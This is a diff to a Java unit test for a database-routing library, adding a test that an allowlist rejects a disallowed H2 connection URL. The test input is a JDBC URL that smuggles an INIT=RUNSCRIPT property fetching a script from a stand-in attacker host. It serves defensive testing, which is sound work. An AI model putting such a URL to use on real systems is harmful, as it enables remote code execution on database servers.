@@ -6,6 +6,7 @@ import static org.assertj.core.api.Assertions.assertThatThrownBy;
 import static org.assertj.core.api.Assertions.catchThrowableOfType;
 import static org.awaitility.Awaitility.await;
 
+import dev.headgate.datasource.pool.AllowedDatabases;
 import dev.headgate.datasource.pool.Database;
 import dev.headgate.faults.Fault;
 import dev.headgate.faults.Settings;
@@ -329,5 +330,20 @@ class BindTest {
       work.commit();
     }
     assertThat(own.committed()).containsExactly("a");
+  }
+
+  @Test
+  void aBindWithADatabaseThatIsNotAllowed_isAFailureOfTheDirectory() throws SQLException {
+    AllowedDatabases allowed = AllowedDatabases.under("jdbc:h2:mem:");
+    String url = "jdbc:h2:mem:archive;INIT=RUNSCRIPT FROM 'http://evil.example/'";
+    try (RoutingDataSource source =
+            RoutingDataSource.builder(Database.of(own.url()))
+                .bind("archive", tenant -> allowed.require(Database.of(url)))
+                .build();
+        UnitOfWork work = source.begin(TenantId.ONLY)) {
+      assertThatThrownBy(() -> source.bind("archive").getConnection())
+          .isInstanceOf(TenantDirectoryException.class)
+          .hasMessageContaining("the driver property INIT is none of the allowed ones");
+    }
   }
 }
